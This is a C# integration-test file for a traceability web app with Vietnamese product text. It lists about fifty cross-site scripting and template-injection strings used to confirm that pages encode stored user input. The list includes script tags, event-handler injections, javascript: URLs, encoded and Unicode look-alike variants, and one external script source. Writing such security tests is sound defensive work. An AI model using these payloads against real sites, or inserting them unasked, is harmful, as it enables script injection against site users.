using System.Text;

namespace Traceability.IntegrationTests.Browser;

/// <summary>
/// Strings a malicious or careless user could store in a name or a note, for every HTML context a page might put them
/// in: element text, quoted and unquoted attributes, the title, the style sheet, URLs, templates, encoded and look-alike
/// forms. They start with <see cref="ScriptWatch.Payloads"/>; the long ones set <see cref="ScriptWatch.Flag"/> and open
/// an alert when they run, the short ones (that fit a lot number) only open an alert. The last two the Api must refuse
/// (a control character, decomposed Unicode): they show that a refusal is counted, not mistaken for a stored payload.
/// </summary>
/// <remarks>
/// No payload has leading, trailing or doubled white space, so the text a browser shows (<c>innerText</c>) holds it
/// character for character when the page encodes it.
/// </remarks>
public static class XssPayloads
{
    private const string Run = $"window.{ScriptWatch.Flag}=1;alert(1)";

    /// <summary>The same code as HTML character references, which an attribute would decode and run.</summary>
    private static readonly string RunAsEntities = string.Concat(Run.Select(c => $"&#{(int)c};"));

    public static readonly IReadOnlyList<string> All =
    [
        .. ScriptWatch.Payloads,
        $"\"><script>{Run}</script>",
        $"'><script>{Run}</script>",
        $"</style><script>{Run}</script>",
        $"</style><img src=x onerror={Run}>",
        $"</p></dd></dl><script>{Run}</script>",
        $"<svg/onload={Run}>",
        $"<svg><script>{Run}</script></svg>",
        $"<body onload={Run}>",
        $"<iframe srcdoc=\"<script>{Run}</script>\"></iframe>",
        $"<iframe src=\"javascript:{Run}\"></iframe>",
        $"<a href=\"javascript:{Run}\">Bấm vào đây</a>",
        $"<a href=\"&#106;avascript:{Run}\">x</a>",
        $"<input autofocus onfocus={Run}>",
        $"<video><source onerror=\"{Run}\"></video>",
        $"<object data=\"javascript:{Run}\"></object>",
        $"<embed src=\"javascript:{Run}\">",
        $"<form action=\"javascript:{Run}\"><button>Gửi</button></form>",
        $"<base href=\"javascript:{Run}//\">",
        $"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{Run}\">",
        $"<math><mtext></table><mglyph><style><img src=x onerror={Run}>",
        $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\">",
        $"<!--<img src=\"--><img src=x onerror={Run}//\">",
        $"<scr<script>ipt>{Run}</scr</script>ipt>",
        "<SCRIPT SRC=//xss.invalid/x.js></SCRIPT>",
        $"<img src=x onerror=\"{RunAsEntities}\">",
        $"\" onmouseover=\"{Run}\" x=\"",
        $"' onfocus='{Run}' autofocus x='",
        $"`><img src=x onerror={Run}>",
        $"<details open ontoggle=\"{Run}\"><summary>Chi tiết</summary></details>",
        "{{7*7}}",
        "${7*7} #{7*7} <%= 7*7 %>",
        "{{constructor.constructor('alert(1)')()}}",
        $"&lt;script&gt;{Run}&lt;/script&gt;",
        $"%3Cscript%3E{Run}%3C%2Fscript%3E",
        $"\\u003cscript\\u003e{Run}\\u003c/script\\u003e",
        $"＜script＞{Run}＜/script＞",
        $"<scr\u200Bipt>{Run}</scr\u200Bipt>",
        $"\u202E<script>{Run}</script>",
        $"Khô cá dứa <b>ngon</b> <script>{Run}</script> – “đặc sản” Cần Giờ",
        $"<style>@import 'javascript:{Run}';</style>",
        // Short enough for a lot number (40 characters) and a vessel reference (60); DialogTrap sees their alert.
        "<svg onload=alert(1)>",
        "\"><img src=x onerror=alert(1)>",
        "</dd><script>alert(1)</script>",
        "'\"><iframe src=javascript:alert(1)>",
        "CG-01<b>lô</b>&amp;<i>1</i>",
        // Refused by the Api: a control character, and Vietnamese in decomposed form (NFD).
        $"<script>\u0000{Run}</script>",
        $"Cá khô <script>{Run}</script>".Normalize(NormalizationForm.FormD),
    ];
}
